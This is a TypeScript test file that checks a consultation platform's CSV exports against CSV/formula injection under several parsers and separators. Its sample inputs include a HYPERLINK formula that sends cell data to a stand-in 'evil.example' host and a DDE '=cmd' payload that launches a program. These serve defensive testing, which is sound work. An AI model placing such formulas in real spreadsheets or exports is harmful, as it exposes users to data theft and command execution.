import { spawnSync } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ChangeLogEntry, UnsealedEntry } from '../../shared/changelog.ts';
import { seal } from '../src/changelog/hashChain.ts';
import { changelogCsv } from '../src/exports/changelogExports.ts';
import { RESPONSE_COLUMNS, type ResponseRow, responsesCsv } from '../src/exports/responses.ts';
import { makeTempFolder, removeFolder } from './support/tempFolders.ts';

/*
 * The two CSV exports as the readers people open them with: a strict RFC 4180 parser, Python's
 * `csv` module, and a spreadsheet whose list separator is `;` (French, Spanish or German Excel
 * reads a `,` file as if `;` separated its cells). Every record must come back as exactly one
 * row, and no cell, however the file is split, may start a formula.
 */

// What participants typed: line breaks of every kind, separators followed by formulas, lists.
const RISKY = [
  'Bonjour;=1+1;fin',
  'Ligne 1\nLigne 2\n=HYPERLINK("https://evil.example/?q="&A1)',
  'Deux points :\n- le premier\n- le second',
  'Hola,+34 600 000 000',
  'a\tb\t@SUM(A1)',
  'Windows\r\n-5 % de budget\rfin',
  'il a dit "non";"=1+1"',
  '=cmd|" /C calc"!A0',
];

function responseRow(i: number, text: string): ResponseRow {
  return {
    kind: i % 2 ? 'suggestion' : 'thread',
    id: `r-${i}`,
    section: i === 0 ? '1. Contexte; =enjeux' : '2. Objectifs',
    passage: text,
    contribution: `${text}\n(1 reply)`,
    author: 'Amélie Noël',
    organisation: 'Réseau « Eau, Santé »',
    sector: 'civil-society',
    country: 'FR',
    language: 'fr',
    status: 'resolved',
    decision: 'Resolved with a response',
    rationale: text,
    decidedBy: 'Tom Okafor',
    decidedAt: '2027-01-12T08:30:00.000Z',
    link: `https://consult.example.org/d/strategie#thread-r-${i}`,
  };
}

const blank: Omit<UnsealedEntry, 'seq' | 'prevHash' | 'type' | 'actor'> = {
  draftId: 'strategie',
  at: '2027-01-10T09:00:00.000Z',
  section: '1. Contexte',
  changes: [],
  rationale: null,
  threadId: null,
  suggestionId: null,
  versionId: null,
  detail: null,
};

function changeLog(): ChangeLogEntry[] {
  const entries: ChangeLogEntry[] = [];
  const actor = { id: 'u-1', name: 'José;=Muñoz', role: 'stakeholder' as const, organisation: '+ONG' };
  for (const text of RISKY) {
    entries.push(
      seal(entries.at(-1), {
        ...blank,
        actor,
        type: 'edit',
        changes: [
          { section: '1. Contexte', before: text, after: `${text} (révisé)` },
          { section: '1. Contexte', before: '', after: text },
        ],
      }),
    );
    entries.push(
      seal(entries.at(-1), { ...blank, actor, type: 'suggestion.rejected', rationale: text, detail: text }),
    );
  }
  return entries;
}

const responses = responsesCsv(RISKY.map((text, i) => responseRow(i, text)));
const changelog = changelogCsv(changeLog());
const exportsUnderTest = [
  { name: 'responses.csv', csv: responses, records: RISKY.length + 1, columns: RESPONSE_COLUMNS.length },
  { name: 'changelog.csv', csv: changelog, records: RISKY.length * 2 + 1, columns: 16 },
];

/** The characters that make a spreadsheet read a cell as a formula (OWASP "CSV Injection"). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
/** A cell that would run: a formula character first, also after the quotes a lax reader leaves in. */
const runs = (cell: string) => FORMULA_START.test(cell.replace(/^"+/, ''));

describe.each(exportsUnderTest)('$name', ({ csv, records, columns }) => {
  it('reads back as one row per record, every row complete, in a strict RFC 4180 parser', () => {
    const rows: string[][] = parse(csv, { bom: true, relax_column_count: false });
    expect(rows).toHaveLength(records);
    expect(rows.every((row) => row.length === columns)).toBe(true);
  });

  it('has no cell that starts a formula, read with , as the separator', () => {
    const cells = (parse(csv, { bom: true }) as string[][]).flat();
    expect(cells.filter(runs)).toEqual([]);
  });

  it.each([';', '\t'])('has no cell that starts a formula, read with %j as the separator', (delimiter) => {
    // A spreadsheet set to another list separator honours quotes only at the start of a cell.
    const rows: string[][] = parse(csv, {
      bom: true,
      delimiter,
      relax_quotes: true,
      relax_column_count: true,
      skip_records_with_error: true,
    });
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.flat().filter(runs)).toEqual([]);
  });

  it('LIMIT-15 has no piece that starts a formula, even split at every separator and line break, quotes ignored', () => {
    const pieces = csv.replace(/^\uFEFF/, '').split(/[,;\t\r\n]/);
    expect(pieces.filter(runs)).toEqual([]);
  });
});

const python = spawnSync('python3', ['--version'], { encoding: 'utf8' });
const hasPython = python.status === 0;
if (!hasPython) console.warn('python3 was not found: the checks with Python’s csv module are skipped.');

// Reads a file as Python's documentation says to (newline='', the BOM stripped by utf-8-sig) and
// prints its rows as JSON.
const READ_WITH_PYTHON = [
  'import csv, json, sys',
  "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:",
  '    print(json.dumps(list(csv.reader(f, delimiter=sys.argv[2]))))',
].join('\n');

describe.skipIf(!hasPython)('read with Python’s csv module (python3)', () => {
  let dir: string;
  beforeAll(() => {
    dir = makeTempFolder();
  });
  afterAll(() => removeFolder(dir));

  async function readWithPython(name: string, csv: string, delimiter: string): Promise<string[][]> {
    const file = path.join(dir, name);
    await writeFile(file, csv, 'utf8');
    const result = spawnSync('python3', ['-c', READ_WITH_PYTHON, file, delimiter], { encoding: 'utf8' });
    expect(result.stderr).toBe('');
    return JSON.parse(result.stdout) as string[][];
  }

  it.each(exportsUnderTest)(
    'reads $name as one row per record, none split',
    async ({ name, csv, records, columns }) => {
      const rows = await readWithPython(name, csv, ',');
      expect(rows.map((row) => row.length)).toEqual(Array(records).fill(columns));
      expect(rows.flat().filter(runs)).toEqual([]);
    },
  );

  it.each(exportsUnderTest)(
    'finds no cell of $name that starts a formula when told ; separates cells',
    async ({ name, csv }) => {
      const rows = await readWithPython(name, csv, ';');
      expect(rows.flat().filter(runs)).toEqual([]);
    },
  );
});
